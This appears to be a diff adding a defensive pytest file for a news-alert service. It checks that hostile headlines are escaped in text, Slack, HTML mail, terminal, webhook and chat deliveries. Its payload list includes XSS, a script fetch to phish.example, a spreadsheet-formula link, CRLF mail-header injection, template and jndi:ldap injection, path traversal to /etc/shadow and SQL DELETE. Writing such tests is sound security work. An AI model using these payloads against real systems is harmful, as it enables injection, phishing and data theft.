@@ -1,0 +1,193 @@
+"""Sixteen headlines that attack what shows them: in every form they are words and nothing more."""
+
+# mypy: disable-error-code="no-untyped-call, override, assignment"
+# Apprise says that it is typed, and is so in part.
+
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from apprise.manager_plugins import NotificationManager
+from apprise.plugins.discord import NotifyDiscord
+
+from monitor.deliver.by_apprise import AppriseChannel
+from monitor.deliver.channel import Bundle, Letter
+from monitor.deliver.render import Form, Rendered, render, templates
+from monitor.domain.changes import Change, Kind, Op, SentenceChange, Severity, TitleChange
+from monitor.domain.deliveries import Sent
+from tests.deliver.made import SEOUL, a_letter, an_alert, an_edit
+from tests.deliver.receivers import a_mail_server, a_web_service
+
+HOSTILE = [
+    "Storm <!channel> nears <!here> the coast",
+    "Mayor <@U0AAAAAA1> resigns, says <https://phish.example|https://city.example>",
+    "<script>fetch('//phish.example')</script> Ferry strike ends",
+    "<img src=x onerror=alert(1)><svg/onload=alert(2)> Bridge opens",
+    '=HYPERLINK("http://phish.example","prices") go up',
+    "+1-800|calc'!A1 @SUM(A1:A9) harvest figures",
+    "Court \x1b[2J\x1b]0;gone\x07 rules \x9b31m today",
+    "Rail plan\r\nBcc: all@city.example\r\n\r\nGET / HTTP/1.1",
+    "{{ config }} {% for c in ''.__class__.__mro__ %}{{ c }}{% endfor %} ${7*7} budget",
+    "@everyone @here !channel read [the order](javascript:alert(1)) www.phish.example",
+    "invoice \u202efdp.exe\u202c and \u2067isolate\u2069 the port",
+    "%s %n %1$x {0.__class__} {alert.key} ${jndi:ldap://phish.example/x} formats",
+    "../../../etc/shadow and C:\\Windows\\..\\boot.ini leak",
+    '\'; DELETE FROM alerts; -- "quoted" `ticked` \\ slash',
+    "tall " * 1200 + "end",
+    "zero\u200b\u200dwidth\ufeff \U0001f9ed compass \U000e0061\U000e007f tags \u3164 fill",
+]
+NUMBERS = range(len(HOSTILE))
+
+
+class Tags(HTMLParser):
+    """Gathers what a browser would act on."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.links: list[str] = []
+        self.words = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+def letters(hostile: str) -> Iterator[Letter]:
+    """The text in every place that a page can fill, as an alert, an edit and a bundle."""
+    change = Change(
+        kinds=(Kind.HEADLINE,),
+        severity=Severity.HIGH,
+        silent=None,
+        reason=hostile,
+        title=TitleChange(before=hostile, after=hostile),
+        sentences=(SentenceChange(op=Op.REPLACE, before=f"a {hostile}", after=f"b {hostile}"),),
+        notice=hostile,
+    )
+    everywhere: dict[str, Any] = {
+        "title": hostile,
+        "lead": hostile,
+        "outlet": hostile,
+        "topics": (hostile,),
+        "reason": hostile,
+    }
+    new, edit = an_alert(url=f"javascript:{hostile}", **everywhere), an_edit(change=change, **everywhere)
+    yield a_letter(new)
+    yield a_letter(edit, repeat=True)
+    yield a_letter(new, edit, bundle=Bundle.DIGEST, heading=hostile)
+
+
+def rendered(number: int, form: Form) -> Iterator[Rendered]:
+    for letter in letters(HOSTILE[number]):
+        for locale in ("ko", "en"):
+            yield render(letter, form, locale, SEOUL)
+
+
+def assert_dead(text: str) -> None:
+    for live in ("@everyone", "@here", "<!channel>", "<!here>", "<@U", "!channel", "](", "www.phish", "ldap://"):
+        assert live not in text
+    assert "https://phish.example" not in text
+    assert not set(text) & set("\x1b\x07\x9b\r\u202e\u2067\u200b\ufeff\u3164")
+
+
+@pytest.mark.parametrize("number", NUMBERS)
+def test_in_plain_text(number: int) -> None:
+    for message in rendered(number, Form.TEXT):
+        assert_dead(message.subject + "\n" + message.text)
+        assert "\n" not in message.subject
+        assert len(message.subject) <= 160
+
+
+@pytest.mark.parametrize("number", NUMBERS)
+def test_in_slack(number: int) -> None:
+    for message in rendered(number, Form.SLACK):
+        assert_dead(message.text)
+        assert [part.partition(">")[0] for part in message.text.split("<")[1:]] in (
+            [],
+            ["https://news.example/a/1"],
+        )
+
+
+@pytest.mark.parametrize("number", NUMBERS)
+def test_in_html(number: int) -> None:
+    for message in rendered(number, Form.MAIL):
+        seen = Tags(message.html)
+        assert not seen.tags & {"script", "img", "svg", "iframe", "object", "form", "style", "link"}
+        assert not [name for name in seen.attributes if name.startswith("on")]
+        assert set(seen.links) <= {"https://news.example/a/1"}
+        assert_dead(seen.words)
+
+
+@pytest.mark.parametrize("number", NUMBERS)
+def test_on_a_terminal(number: int, capsys: pytest.CaptureFixture[str]) -> None:
+    channel = AppriseChannel("screen", ["terminal://"], "ko", SEOUL)
+    for letter in letters(HOSTILE[number]):
+        assert isinstance(channel.send(letter, channel.targets[0]), Sent)
+    assert_dead(capsys.readouterr().out)
+
+
+@pytest.mark.parametrize("number", NUMBERS)
+def test_on_the_wire_of_a_webhook_and_a_mail(number: int) -> None:
+    with a_web_service() as service, a_mail_server() as server:
+        urls = [
+            f"json://127.0.0.1:{service.port}/",
+            f"mailto://127.0.0.1:{server.port}?from=a@example.org&to=b@example.org",
+        ]
+        channel = AppriseChannel("both", urls, "en", SEOUL)
+        for target in channel.targets:
+            assert isinstance(channel.send(a_letter(an_alert(title=HOSTILE[number])), target), Sent)
+    said, mail = service.requests[0], server.messages[0]
+    assert_dead(said.json["title"] + "\n" + said.json["message"])
+    assert said.json["alerts"][0]["title"] == HOSTILE[number]
+    assert max(said.body) < 0x80  # programs get the words as they are, escaped
+    assert_dead(str(mail["Subject"]))
+    assert (mail["Bcc"], mail.defects) == (None, [])
+
+
+def test_services_that_are_left_to_apprise_get_words_too() -> None:
+    """Contract 6: no mention and no tag leaves for Slack, mail or Discord."""
+    hostile = an_alert(title="<!here> @everyone <script>alert(1)</script> [x](https://phish.example)")
+    with a_web_service() as service:
+
+        class DiscordHere(NotifyDiscord):
+            """Discord's own plugin, sent to loopback."""
+
+            secure_protocol = "discordhere"
+            notify_url = f"http://127.0.0.1:{service.port}/api/webhooks"
+
+        NotificationManager().add(DiscordHere, force=True)
+        urls = [
+            f"discordhere://{'1' * 18}/{'a' * 60}",
+            f"mmost://127.0.0.1:{service.port}/3ccdd113474722377935511fc85d3dd4",
+        ]
+        channel = AppriseChannel("chat", urls, "ko", SEOUL)
+        for target in channel.targets:
+            channel.send(a_letter(hostile), target)
+    discord, mattermost = (request.body.decode("unicode_escape") for request in service.requests)
+    for said in (discord, mattermost):
+        for live in ("<!here>", "@everyone", "<script>", "](https://phish"):
+            assert live not in said
+
+
+def test_every_template_escapes_whatever_it_is_given() -> None:
+    marker = "<marker a='1'>&amp;\"</marker>"
+    for letter in letters(marker):
+        html = render(letter, Form.MAIL, "ko", SEOUL).html
+        assert "marker" in html
+        assert "marker" not in Tags(html).tags
+
+
+def test_no_template_is_left_out_of_escaping() -> None:
+    environment = templates()
+    assert environment.autoescape is True
+    for name in environment.list_templates():
+        source, _, _ = environment.loader.get_source(environment, name) if environment.loader else ("", "", None)
+        assert "|safe" not in source.replace(" ", "")
+        assert "autoescape" not in source
